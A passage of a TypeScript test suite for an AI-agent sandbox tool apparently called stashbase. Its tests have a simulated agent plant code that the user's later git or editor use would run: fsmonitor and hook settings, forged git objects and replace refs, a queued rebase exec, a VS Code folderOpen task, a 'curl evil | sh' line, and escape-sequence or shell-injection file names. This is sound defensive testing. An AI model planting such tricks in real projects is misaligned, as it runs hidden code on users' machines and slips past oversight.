        assert.match(c.stderr, /nested repository at .*\/inner, in a subfolder, .*hooks\/pre-commit/);
      });
    }

    if (!docker) {
      test('(round 15) as an ordinary user, a command found by name led through a folder closed to you (an error on its way) stops none of the check: a planted repository with an fsmonitor is still unplugged; control: put back, your git status runs it', needsRoot('it runs stashbase as nobody'), async () => {
        const marker = join(t.dir, `PWNED-eacces-${name}`);
        const base = join(t.dir, 'eacces');
        const home = join(base, 'home');
        const repo = join(base, 'repo');
        const closed = join(base, 'closed');
        mkdirSync(home, { recursive: true });
        mkdirSync(join(closed, 'x'), { recursive: true });
        makeRepo(repo);
        writeFileSync(join(repo, '.gitignore'), 'node_modules/\n');
        mkdirSync(join(repo, 'node_modules', 'hello'), { recursive: true });
        mkdirSync(join(repo, 'node_modules', '.bin'), { recursive: true });
        writeFileSync(join(repo, 'node_modules', 'hello', 'cli.js'), '#!/bin/sh\n', { mode: 0o755 });
        spawnSync('ln', ['-s', '../hello/cli.js', join(repo, 'node_modules', '.bin', 'hello')]);
        spawnSync('chown', ['-R', 'nobody', home, repo]);
        spawnSync('chmod', ['755', t.dir, base]);
        spawnSync('chmod', ['700', closed]);
        writeFileSync(marker, '');
        spawnSync('chmod', ['666', marker]);
        const env = ['env', '-i', `HOME=${home}`, `PATH=${t.env.PATH}`, `STASHBASE_HOME=${join(home, '.stashbase')}`];
        const asNobody = (cmd: string[], cwd: string) => spawnSync('runuser', ['-u', 'nobody', '--', ...env, ...cmd], { cwd, encoding: 'utf8', timeout: 90_000 });
        const plant = `mkdir sub && git init -q sub && git -C sub config core.fsmonitor "echo ran >> ${marker}; false" && mv node_modules/hello node_modules/hello.real && ln -s ${join(closed, 'x')} node_modules/hello && echo planted`;
        const r = asNobody([process.execPath, BIN, 'agent', 'run', '--silent', '--', 'sh', '-c', plant], repo);
        assert.equal(r.status, 0, r.stderr);
        assert.equal(r.stdout, 'planted\n');
        assert.match(r.stderr, /nested repository at .*\/sub, in a subfolder, .*core\.fsmonitor/);
        asNobody(['git', 'status'], join(repo, 'sub'));
        assert.equal(readFileSync(marker, 'utf8'), '', 'your git status there ran nothing');
        // The control: put back, your git status runs the agent's fsmonitor.
        asNobody(['mv', join(repo, 'sub', '.git.stashbase-quarantine'), join(repo, 'sub', '.git')], repo);
        asNobody(['mv', join(repo, 'sub', '.git', 'HEAD.stashbase-quarantine'), join(repo, 'sub', '.git', 'HEAD')], repo);
        asNobody(['git', 'status'], join(repo, 'sub'));
        assert.match(readFileSync(marker, 'utf8'), /^(ran\n)+$/);
      });
    }

    if (!docker) {
      test('(round 15) a command found by name that leads to a file in an allow_write folder outside the tree, that file rewritten: moved aside; control: outside, it runs the agent\'s code', async () => {
        const marker = join(t.dir, `PWNED-cachebin-${name}`);
        const home = t.env.HOME as string;
        const repo = join(t.dir, `cachebin-${name}`);
        const g = makeRepo(repo);
        writeFileSync(join(repo, '.gitignore'), 'node_modules/\n');
        mkdirSync(join(home, '.cache', 'hello'), { recursive: true });
        writeFileSync(join(home, '.cache', 'hello', 'cli.js'), '#!/bin/sh\necho hello\n', { mode: 0o755 });
        mkdirSync(join(repo, 'node_modules', '.bin'), { recursive: true });
        spawnSync('ln', ['-s', join(home, '.cache', 'hello', 'cli.js'), join(repo, 'node_modules', '.bin', 'hello')]);
        assert.equal(g('add', '.gitignore').status, 0);
        assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'ignore').status, 0);
        mkdirSync(join(t.sbHome, 'agents'), { recursive: true });
        writeFileSync(join(t.sbHome, 'agents', 'cache.toml'), '[filesystem]\nallow_write = ["~/.cache"]\n');
        const r = await cli(['agent', 'run', '--silent', '--profile', 'cache', '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', 'printf "#!/bin/sh\\ntouch $PWNFILE\\n" > ~/.cache/hello/cli.js && echo rewritten'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.equal(r.code, 0, r.stderr);
        assert.equal(r.stdout, 'rewritten\n');
        const bin = join(repo, 'node_modules', '.bin', 'hello');
        assert.match(r.stderr, new RegExp(`the agent made or changed ${bin.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, .*: it was renamed`));
        spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH hello'], { cwd: repo, env: t.env });
        assert.equal(existsSync(marker), false, 'your npm run finds nothing of the agent by that name');
        // Control: the link put back, the command runs the agent's code.
        spawnSync('mv', [`${bin}.stashbase-quarantine`, bin]);
        spawnSync('sh', ['-c', 'PATH=node_modules/.bin:$PATH hello'], { cwd: repo, env: t.env });
        assert.equal(existsSync(marker), true);
      });
    }

    if (!docker) {
      test('(round 17) an old node_modules link into an allow_write folder outside the tree, its package rewritten there: the link moved aside; control: put back, node runs the agent\'s code', async () => {
        const marker = join(t.dir, `PWNED-nmlink-${name}`);
        const shared = join(t.dir, `nmshared-${name}`);
        const repo = join(t.dir, `nmlink-${name}`);
        const g = makeRepo(repo);
        mkdirSync(join(shared, 'node_modules', 'leftpad'), { recursive: true });
        writeFileSync(join(shared, 'node_modules', 'leftpad', 'index.js'), 'module.exports = 1;\n');
        spawnSync('ln', ['-s', join(shared, 'node_modules'), join(repo, 'node_modules')]);
        writeFileSync(join(repo, '.gitignore'), 'node_modules\n');
        writeFileSync(join(repo, 'app.js'), 'require("leftpad");\n');
        assert.equal(g('add', '.gitignore', 'app.js').status, 0);
        assert.equal(g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '-m', 'app').status, 0);
        mkdirSync(join(t.sbHome, 'agents'), { recursive: true });
        writeFileSync(join(t.sbHome, 'agents', 'nmshared.toml'), `[filesystem]\nallow_write = ["${shared}"]\n`);
        const r = await cli(['agent', 'run', '--silent', '--profile', 'nmshared', '--', 'sh', '-c', 'echo \'require("fs").writeFileSync(process.env.PWNFILE, "")\' > node_modules/leftpad/index.js && echo rewritten'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
        assert.equal(r.code, 0, r.stderr);
        assert.equal(r.stdout, 'rewritten\n');
        assert.match(r.stderr, new RegExp(`the agent changed code in ${join(repo, 'node_modules').replace(/[.*+?^${}()|[\]\\]/g, '\\$&')} \\(node_modules, .*\\), where git shows nothing: it was moved to`));
        spawnSync('node', ['app.js'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
        assert.equal(existsSync(marker), false, 'your node app.js ran nothing of the agent');
        // Control: the link put back, node runs the agent's code.
        spawnSync('mv', [join(repo, 'node_modules.stashbase-quarantine', 'node_modules'), join(repo, 'node_modules')]);
        spawnSync('node', ['app.js'], { cwd: repo, env: { ...t.env, PWNFILE: marker } });
        assert.equal(existsSync(marker), true);
      });
    }

    test('variants found in review: a symlinked .git, a pointer ending in a space, a bare repository under another name, and a broken index that stops no other check', async () => {
      const marker = join(t.dir, `PWNED-variants-${name}`);
      const repo = join(t.dir, `variants-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, 'variants.sh'), VARIANTS);
      assert.equal(g('add', 'variants.sh').status, 0);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'variants.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'planted\n');
      // The broken index stays in the run's own git directory (and is said so); yours is checked as it is.
      assert.match(r.stderr, /^warning: the sandbox's index is not one stashbase can read \(a split index, or not an index\): not taken \(.*\/\.git\/index is kept\)$/m);
      for (const d of ['sub', 'sub2']) assert.match(r.stderr, new RegExp(`nested repository at ${join(repo, d).replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}, in a subfolder, .*core\\.fsmonitor`));
      assert.match(r.stderr, /bare repository at .*fixtures\/evil\.git, .*core\.fsmonitor/);
      // Found in a third review: objects or HEAD as symlinks, a git directory split by its commondir, and a pointer whose ".." follows a symlink into your .git.
      assert.match(r.stderr, /bare repository at .*\/va\.git, .*core\.fsmonitor/);
      assert.match(r.stderr, /bare repository at .*\/vb\.git, .*core\.fsmonitor/);
      assert.match(r.stderr, /bare repository at .*\/vc\/b, .*core\.pager/);
      // The one planted in .git/objects stayed in the run's own object store: its pointer leads nowhere in yours.
      assert.equal(existsSync(join(repo, '.git', 'objects', 'zz.git')), false);
      assert.match(r.stderr, /the agent made .*\.mcp\.json, which your own tools would run or obey/);
      for (const d of ['sub', 'sub2', 'fixtures/evil.git', 'gd', 'gd2 ', 'va.git', 'vb.git', 'vd/w']) spawnSync('git', ['status'], { cwd: join(repo, d), env: t.env });
      assert.equal(existsSync(marker), false, 'your git status in none of them ran anything');
      // The control: the bare repository put back runs, as git takes it.
      spawnSync('mv', [join(repo, 'fixtures', 'evil.git', 'HEAD.stashbase-quarantine'), join(repo, 'fixtures', 'evil.git', 'HEAD')]);
      spawnSync('git', ['status'], { cwd: join(repo, 'fixtures', 'evil.git'), env: t.env });
      assert.equal(existsSync(marker), true);
    });

    test('a new worktree admin folder in .git/worktrees naming a planted common directory, and a setuid file inside .git: both stay in the run\'s own git directory', async () => {
      const marker = join(t.dir, `PWNED-worktrees-${name}`);
      const repo = join(t.dir, `worktrees-${name}`);
      makeRepo(repo);
      writeFileSync(join(repo, 'wt.sh'), IN_WORKTREES);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', 'wt.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      // Native: the sandbox's filter refuses setuid modes; Docker: the agent owns the file and may set it, and the walk clears it.
      assert.equal(r.stdout, `${docker ? 'setuid-set' : 'setuid-refused'}\nplanted\n`);
      if (docker) assert.match(r.stderr, /^warning: the run's git directory \(for .*\/\.git\) held what no git directory should; removed before anything was read: objects\/suidtrue \(setuid or setgid\): the bit cleared$/m);
      assert.match(r.stderr, /\/\.git: what the sandbox made there beyond refs, HEAD, the index and objects stays in the run's own git directory, not in yours: worktrees\/evil$/m);
      for (const p of ['objects/suidtrue', 'objects/pd', 'worktrees/evil']) assert.equal(existsSync(join(repo, '.git', p)), false, p);
      spawnSync('git', ['status'], { cwd: join(repo, 'sub3'), env: t.env });
      assert.equal(existsSync(marker), false, 'your git status in sub3 ran nothing');
    });

    test("a config file your repository's config includes from the working tree cannot gain core.fsmonitor (the control: outside, it can and your git status runs it)", async () => {
      const marker = join(t.dir, `PWNED-include-${name}`);
      const repo = join(t.dir, `include-${name}`);
      const g = makeRepo(repo);
      writeFileSync(join(repo, 'shared.gitconfig'), '[user]\n\tname = Team\n');
      assert.equal(g('config', 'include.path', '../shared.gitconfig').status, 0);
      const append = `printf '[core]\\n\\tfsmonitor = "touch %s; false"\\n' "$PWNFILE" >> shared.gitconfig && echo appended || echo refused`;
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', append], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'refused\n');
      assert.equal(readFileSync(join(repo, 'shared.gitconfig'), 'utf8'), '[user]\n\tname = Team\n');
      spawnSync('git', ['status'], { cwd: repo, env: t.env });
      assert.equal(existsSync(marker), false);
      // The control.
      assert.equal(spawnSync('sh', ['-c', append], { cwd: repo, env: { ...t.env, PWNFILE: marker }, encoding: 'utf8' }).stdout, 'appended\n');
      spawnSync('git', ['status'], { cwd: repo, env: t.env });
      assert.equal(existsSync(marker), true);
    });

    test("plants named to attack the warning itself: no escape sequence or forged line reaches your terminal; a restore command is printed only where it names the real folder, and runs nothing else", async () => {
      const marker = join(t.dir, `PWNED-name-${name}`);
      const injected = join(t.dir, `INJECTED-${name}`);
      const repo = join(t.dir, `name-${name}`);
      makeRepo(repo);
      // A title change, a screen clear, a colour, a carriage return, a bidi override, a newline starting a line of
      // "ours"; and a plain name with shell syntax.
      const evilName = `x\u001b]0;pwned\u0007\u001b[2J\u001b[31m\rz\u202e\nwarning: all clear`;
      const shellName = `y;touch INJECTED-${name};y`;
      writeFileSync(join(repo, 'name.sh'), `set -e\nfor d in "$(printf '%s' "$EVIL")" "$(printf '%s' "$SHELLY")"; do mkdir -- "$d" && git init -q -- "$d" && git -C "$d" config core.fsmonitor "touch $PWNFILE; false"; done\necho planted\n`);
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, `EVIL=${evilName}`, `SHELLY=${shellName}`, 'sh', 'name.sh'], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stderr, /nested repository at .*x\\x1b\]0;pwned\\x07\\x1b\[2J\\x1b\[31m\\x0dz\\u\{202e\}\\x0awarning: all clear, in a subfolder/);
      assert.doesNotMatch(r.stderr, /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e]/, 'no control character or bidi override printed raw');
      assert.doesNotMatch(r.stderr, /^warning: all clear/m, 'no line of the agent\'s making');
      assert.match(r.stderr, /x\\x1b.*all clear\/\.git\.stashbase-quarantine\/HEAD\.stashbase-quarantine, so git takes neither for a repository; review it, then restore it by renaming it back yourself \(its name holds characters shown escaped here: no command is printed to paste\)/);
      assert.equal(existsSync(join(repo, evilName, '.git.stashbase-quarantine')), true);
      // The plain name's command, pasted as printed, moves it back and runs nothing else.
      const shown = /restore it with: (mv .*y;touch.*)$/m.exec(r.stderr)![1]!;
      assert.equal(spawnSync('sh', ['-c', shown], { env: t.env, cwd: t.dir }).status, 0);
      assert.equal(existsSync(join(repo, shellName, '.git')), true, 'moved back');
      assert.equal(existsSync(injected), false, 'the shell ran nothing the name held');
    });

    test('a folder that was no repository: a repository the agent makes there (or below) does not run on your git status', async () => {
      const marker = join(t.dir, `PWNED-norepo-${name}`);
      const dir = join(t.dir, `norepo-${name}`);
      mkdirSync(dir);
      const plant = 'git init -q . 2>/dev/null && git config core.fsmonitor "touch $PWNFILE; false"; git init -q sub && git -C sub config core.fsmonitor "touch $PWNFILE; false"; echo done';
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', plant], { env: t.env, cwd: dir, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'done\n');
      for (const d of [dir, join(dir, 'sub')]) spawnSync('git', ['status'], { cwd: d, env: t.env });
      assert.equal(existsSync(marker), false, 'your git status ran nothing');
      assert.equal(existsSync(join(dir, 'sub', '.git')), false, 'the planted one is unplugged');
      assert.match(r.stderr, /in a folder that was no repository/);
      // The control: the same outside runs it.
      const control = join(t.dir, `norepo-control-${name}`);
      mkdirSync(control);
      spawnSync('sh', ['-c', plant], { cwd: control, env: { ...t.env, PWNFILE: marker } });
      spawnSync('git', ['status'], { cwd: control, env: t.env });
      assert.equal(existsSync(marker), true);
      spawnSync('rm', ['-f', marker]);
    });

    test("(review) a repository of yours in the folder the agent works in, one of its objects rewritten in place with another script (git never checks a loose object against its name), and (unlisted) a byte of a pack changed after a repack, and (review of the check) a replace ref, a pack under another name, a bare repository: unplugged, named; the agent's own commit there is not, the commit-graph it wrote removed; control: outside, your checkout writes the agent's script", async () => {
      const dir = join(t.dir, `forged-${name}`);
      const setUp = (d: string) => {
        mkdirSync(join(d, 'a'), { recursive: true });
        writeFileSync(join(d, 'a', 'build.sh'), 'echo good\n');
        for (const [repo, args] of [['a', ['init', '-q']], ['a', ['add', 'build.sh']], ['a', ['-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'one']]] as const) spawnSync('git', ['-C', join(d, repo), ...args], { env: t.env });
        mkdirSync(join(d, 'b'));
        spawnSync('sh', ['-c', 'cp -a a/. b/ && git -C b repack -qad && cp -a a/.git e.git && git --git-dir=e.git config core.bare true'], { cwd: d, env: t.env });
        return spawnSync('git', ['-C', join(d, 'a'), 'rev-parse', 'HEAD:build.sh'], { env: t.env, encoding: 'utf8' }).stdout.trim();
      };
      const blob = setUp(dir);
      // In place: the file's mode opened, its bytes a zlib stream of another blob. In b, one byte of the pack's data.
      const forge = `import os, zlib, glob
p = 'a/.git/objects/${blob.slice(0, 2)}/${blob.slice(2)}'
os.chmod(p, 0o644)
body = b'echo EVIL\\n'
open(p, 'wb').write(zlib.compress(b'blob %d\\x00' % len(body) + body))
k = glob.glob('b/.git/objects/pack/*.pack')[0]
os.rename(k[:-5] + '.idx', 'b/.git/objects/pack/evil.idx')
os.rename(k, 'b/.git/objects/pack/evil.pack')
k = 'b/.git/objects/pack/evil.pack'
os.chmod(k, 0o644)
d = bytearray(open(k, 'rb').read()); d[20] ^= 1
open(k, 'r+b').write(bytes(d))
p = 'e.git/objects/${blob.slice(0, 2)}/${blob.slice(2)}'
os.chmod(p, 0o644)
open(p, 'wb').write(zlib.compress(b'blob %d\\x00' % len(body) + body))
print('forged')
`;
      writeFileSync(join(dir, 'forge.py'), forge);
      mkdirSync(join(dir, 'c'));
      spawnSync('git', ['-C', join(dir, 'c'), 'init', '-q'], { env: t.env });
      // (Review of the check) a replace ref in another copy: git shows the agent's blob in place of build.sh's.
      spawnSync('sh', ['-c', 'cp -a a/. d/'], { cwd: dir, env: t.env });
      const replace = `cd d && E=$(printf 'echo EVIL\\n' | git hash-object -w --stdin) && mkdir -p .git/refs/replace && echo $E > .git/refs/replace/${blob} && cd ..`;
      const graph = 'cd c && echo x > f && git add f && git -c user.name=a -c user.email=a@x commit -qm agent && git commit-graph write --reachable && cd ..';
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', `python3 forge.py && ${replace} && ${graph} && echo committed`], { env: t.env, cwd: dir, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.equal(r.stdout, 'forged\ncommitted\n');
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/d/\\.git holds refs/replace \\(a folder of replace refs: git shows other objects in place of those they name\\)`));
      assert.equal(existsSync(join(dir, 'd', '.git')), false);
      // The caches git reads history through unchecked, which the run wrote: removed, the repository left.
      assert.match(r.stderr, new RegExp(`the run wrote caches git reads ${dir}/c/\\.git's history through without checking them \\(objects/info/commit-graph\\): removed`));
      assert.equal(existsSync(join(dir, 'c', '.git', 'objects', 'info', 'commit-graph')), false);
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/a/\\.git holds objects/${blob.slice(0, 2)}/${blob.slice(2)} \\(its content is another object's\\): your git would check out what the agent put there under a name you trust`));
      // (Review of the check) under a name git loads as well as pack-<hex>; and in a bare repository.
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/b/\\.git holds objects/pack/evil\\.pack \\(git verify-pack refuses it`));
      assert.match(r.stderr, new RegExp(`bare repository at ${dir}/e\\.git, .*: it holds objects/${blob.slice(0, 2)}/${blob.slice(2)} \\(its content is another object's\\)`));
      assert.equal(existsSync(join(dir, 'e.git', 'HEAD')), false);
      assert.equal(existsSync(join(dir, 'a', '.git')), false);
      assert.equal(existsSync(join(dir, 'b', '.git')), false);
      assert.equal(existsSync(join(dir, 'c', '.git')), true, "the agent's own commit in a repository it made is left");
      assert.doesNotMatch(r.stderr, /c\/\.git (holds|was renamed)/);
      // Control: outside, the forged object is what your checkout writes.
      const ctl = join(t.dir, `forged-control-${name}`);
      setUp(ctl);
      writeFileSync(join(ctl, 'forge.py'), forge);
      assert.equal(spawnSync('python3', ['forge.py'], { cwd: ctl, encoding: 'utf8' }).stdout, 'forged\n');
      spawnSync('sh', ['-c', 'rm build.sh && git checkout -q -- build.sh'], { cwd: join(ctl, 'a'), env: t.env });
      assert.equal(readFileSync(join(ctl, 'a', 'build.sh'), 'utf8'), 'echo EVIL\n');
      spawnSync('sh', ['-c', `cp -a a/. d/ && ${replace.replace('cd d', 'cd d && git checkout -q -- . ')}`], { cwd: ctl, env: t.env });
      spawnSync('sh', ['-c', 'git -c core.hooksPath=/dev/null reset -q --hard && rm build.sh && git checkout -q -- build.sh'], { cwd: join(ctl, 'd'), env: t.env });
      assert.equal(readFileSync(join(ctl, 'd', 'build.sh'), 'utf8'), 'echo EVIL\n', 'control: outside, the replace ref has your checkout write it');
    });

    test("(third review) what a repository of yours in the tree would act on or hide later without showing it: a paused rebase whose queued exec your --continue runs, skip-worktree on a file the agent changed, info/exclude and info/attributes hiding a planted file and a diff: each unplugged, named; (fourth review) an index whose stat data hides a change: rewritten, so git status shows it; the agent's ordinary commit in another is left; control: outside, --continue runs the exec and git status shows nothing", async () => {
      const dir = join(t.dir, `hidden-state-${name}`);
      const marker = join(t.dir, `PWNED-rebase-${name}`);
      const setUp = (d: string) => {
        for (const n of ['r', 's', 'i', 'x', 'ok']) {
          mkdirSync(join(d, n), { recursive: true });
          writeFileSync(join(d, n, 'lib.py'), 'print(1)\n');
          for (const args of [['init', '-q'], ['add', 'lib.py'], ['-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'one'], ['-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '--allow-empty', '-m', 'two']]) spawnSync('git', ['-C', join(d, n), ...args], { env: t.env });
        }
      };
      setUp(dir);
      const id = '-c user.name=a -c user.email=a@x';
      const agent = [
        `cd r && GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git ${id} rebase -q -i --exec "touch $PWNFILE" HEAD~1; cd ..`,
        `cd s && echo 'print("EVIL")' > lib.py && git update-index --skip-worktree lib.py && cd ..`,
        `cd i && echo 'import os' > helper.py && echo helper.py >> .git/info/exclude && printf '*.py -diff\\n' > .git/info/attributes && cd ..`,
        // (Fourth review) the new file's stat data on the old blob's entry: git trusts the stat data and never reads the file.
        `cd x && O=$(git rev-parse :lib.py) && echo 'print("EVIL")' > lib.py && sleep 1.1 && git update-index lib.py && N=$(git rev-parse :lib.py) && python3 -c "import hashlib,sys; d=open('.git/index','rb').read()[:-20].replace(bytes.fromhex(sys.argv[2]), bytes.fromhex(sys.argv[1])); open('.git/index','wb').write(d+hashlib.sha1(d).digest())" $O $N && cd ..`,
        `cd ok && echo 'print(2)' > lib.py && git ${id} commit -qam mine && cd ..`,
        'echo done',
      ].join('\n');
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'env', `PWNFILE=${marker}`, 'sh', '-c', agent], { env: t.env, cwd: dir, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      assert.match(r.stdout, /done\n$/);
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/r/\\.git holds rebase-merge \\(work your git resumes with --continue, running what it queued`));
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/s/\\.git holds index \\(it hides lib\\.py from git status`));
      assert.match(r.stderr, new RegExp(`its git directory ${dir}/i/\\.git holds info/(exclude|attributes) \\(what your git ignores`));
      for (const n of ['r', 's', 'i']) assert.equal(existsSync(join(dir, n, '.git')), false, n);
      // The index it wrote is rewritten without the stat data it chose: your git status sees the change.
      assert.equal(spawnSync('git', ['status', '--porcelain'], { cwd: join(dir, 'x'), env: t.env, encoding: 'utf8' }).stdout, ' M lib.py\n');
      assert.equal(existsSync(join(dir, 'ok', '.git')), true, "the agent's ordinary commit is left");
      assert.doesNotMatch(r.stderr, /ok\/\.git/);
      assert.equal(existsSync(marker), false);
      // Control: outside, your --continue runs the queued exec, and git status shows nothing of the changed file.
      const ctl = join(t.dir, `hidden-state-control-${name}`);
      setUp(ctl);
      spawnSync('sh', ['-c', agent], { cwd: ctl, env: { ...t.env, PWNFILE: marker } });
      spawnSync('git', ['-c', 'user.name=me', '-c', 'user.email=me@x', 'rebase', '--continue'], { cwd: join(ctl, 'r'), env: t.env });
      assert.equal(existsSync(marker), true);
      assert.equal(spawnSync('git', ['status', '--porcelain'], { cwd: join(ctl, 's'), env: t.env, encoding: 'utf8' }).stdout, '');
      assert.equal(spawnSync('git', ['status', '--porcelain'], { cwd: join(ctl, 'x'), env: t.env, encoding: 'utf8' }).stdout, '');
      assert.equal(readFileSync(join(ctl, 'x', 'lib.py'), 'utf8'), 'print("EVIL")\n');
      spawnSync('rm', ['-f', marker]);
    });

    test('core.hooksPath set in an included file: the folder it names cannot be filled with hooks', async () => {
      const marker = join(t.dir, `PWNED-hooks-${name}`);
      const repo = join(t.dir, `inc-${name}`);
      const g = makeRepo(repo);
      mkdirSync(join(repo, 'githooks'));
      writeFileSync(join(repo, '.git', 'hooks.inc'), '[core]\n\thooksPath = githooks\n');
      assert.equal(g('config', 'include.path', 'hooks.inc').status, 0);
      const plant = `printf '#!/bin/sh\\ntouch ${marker}\\n' > githooks/pre-commit && chmod +x githooks/pre-commit && echo planted || echo refused`;
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.stdout, 'refused\n', r.stderr);
      g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '--allow-empty', '-m', 'after');
      assert.equal(existsSync(marker), false, 'your commit ran no hook');
      // The control: outside, the hook lands and your commit runs it.
      spawnSync('sh', ['-c', plant], { cwd: repo });
      g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-q', '--allow-empty', '-m', 'control');
      assert.equal(existsSync(marker), true);
    });

    test('a repository made without a hooks folder, and its info/exclude: no hook can be planted, nothing hidden from your git status', async () => {
      const marker = join(t.dir, `PWNED-nohooks-${name}`);
      const repo = join(t.dir, `nohooks-${name}`);
      mkdirSync(repo);
      const g = (...a: string[]) => spawnSync('git', ['-C', repo, '-c', 'user.name=me', '-c', 'user.email=me@x', ...a], { env: t.env, encoding: 'utf8' });
      g('init', '-q', '--template=');
      g('commit', '-q', '--allow-empty', '-m', 'init');
      assert.equal(existsSync(join(repo, '.git', 'hooks')), false);
      const plant = `(mkdir -p .git/hooks && printf '#!/bin/sh\\ntouch ${marker}\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit) 2>/dev/null && echo hook || echo no-hook; (mkdir -p .git/info && echo secret.txt >> .git/info/exclude) 2>/dev/null && echo exclude || echo no-exclude; echo x > secret.txt`;
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', plant], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.code, 0, r.stderr);
      g('commit', '-q', '--allow-empty', '-m', 'after');
      assert.equal(existsSync(marker), false, 'your commit ran no hook');
      assert.match(g('status', '--porcelain').stdout, /^\?\? secret\.txt$/m, 'the new file shows in your git status');
      // The control: outside, both land.
      spawnSync('sh', ['-c', plant], { cwd: repo });
      g('commit', '-q', '--allow-empty', '-m', 'control');
      assert.equal(existsSync(marker), true);
      assert.doesNotMatch(g('status', '--porcelain').stdout, /secret\.txt/);
    });

    test('hidden tampering: a skip-worktree mark hides nothing, and a paused rebase with a queued exec runs nothing on your --continue', async () => {
      const marker = join(t.dir, `PWNED-rebase-${name}`);
      const make = (dir: string) => {
        const g = makeRepo(dir);
        writeFileSync(join(dir, 'README'), 'read me\n');
        g('add', 'README', 'plant.sh', 'harmless.sh');
        g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'one');
        writeFileSync(join(dir, 'Makefile'), 'all:\n');
        g('add', 'Makefile');
        g('-c', 'user.name=me', '-c', 'user.email=me@x', 'commit', '-qm', 'two');
        return g;
      };
      // A rebase paused before its first step, with an exec queued; then a change hidden behind skip-worktree.
      const tamper = [
        `GIT_SEQUENCE_EDITOR='sed -i 1ibreak' git -c user.name=a -c user.email=a@b rebase -q -i --exec 'touch ${marker}' HEAD~1`,
        'git update-index --skip-worktree README && echo "curl evil | sh" > README',
        'echo done',
      ].join(' && ');
      const repo = join(t.dir, `tamper-${name}`);
      const g = make(repo);
      const head = g('rev-parse', 'HEAD').stdout;
      const r = await cli(['agent', 'run', '--silent', ...flags, '--', 'sh', '-c', tamper], { env: t.env, cwd: repo, timeoutMs: 90_000 });
      assert.equal(r.stdout, 'done\n', r.stderr);
      assert.match(g('status', '--porcelain').stdout, /^ M README$/m, 'your git status shows the change');
      g('-c', 'user.name=me', '-c', 'user.email=me@x', 'rebase', '--continue');
      assert.equal(existsSync(marker), false, 'your --continue ran nothing');
      assert.match(r.stderr, /paused/);
      // Native: nothing of the paused state came back. Docker writes HEAD itself: the warning says where the paused state went.
      if (!docker) assert.equal(g('rev-parse', 'HEAD').stdout, head, 'your HEAD is where it was');
      // The control: outside, the mark hides the change and --continue runs the queued exec.
      const control = join(t.dir, `tamper-control-${name}`);
      const cg = make(control);
      spawnSync('sh', ['-c', tamper], { cwd: control, env: t.env });
      assert.doesNotMatch(cg('status', '--porcelain').stdout, /README/);
      cg('-c', 'user.name=me', '-c', 'user.email=me@x', 'rebase', '--continue');
      assert.equal(existsSync(marker), true);
      spawnSync('rm', ['-f', marker]);
    });

    if (!docker) {
      test('300,001 hard links first: the end-of-run check still finds the repository and the editor task planted after them (it has no count to reach)', async () => {
        const marker = join(t.dir, `PWNED-flood-${name}`);
        const repo = join(t.dir, `flood-${name}`);
        makeRepo(repo);
        // The flood in the top folder itself, which the walk reads first; then the plants one folder down.
        const flood = [
          // A file takes at most 65,000 links here: six files, 50,001 links each (the 300,001 and more).
          'python3 -c "import os; [open(\'f%d\' % j, \'w\').close() for j in range(6)]; [os.link(\'f%d\' % (i % 6), \'l%d\' % i) for i in range(300006)]"',
          'mkdir -p zz/deep && git init -q zz/deep && git -C zz/deep config core.fsmonitor "touch $PWNFILE; false"',
          'mkdir -p zz/.vscode && printf \'{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch $PWNFILE","runOptions":{"runOn":"folderOpen"}}]}\' > zz/.vscode/tasks.json',
          'echo planted',
        ].join('\n');
        // The control: outside, git status in the planted folder runs its fsmonitor.
        const ctl = join(t.dir, `flood-control-${name}`);
        makeRepo(ctl);
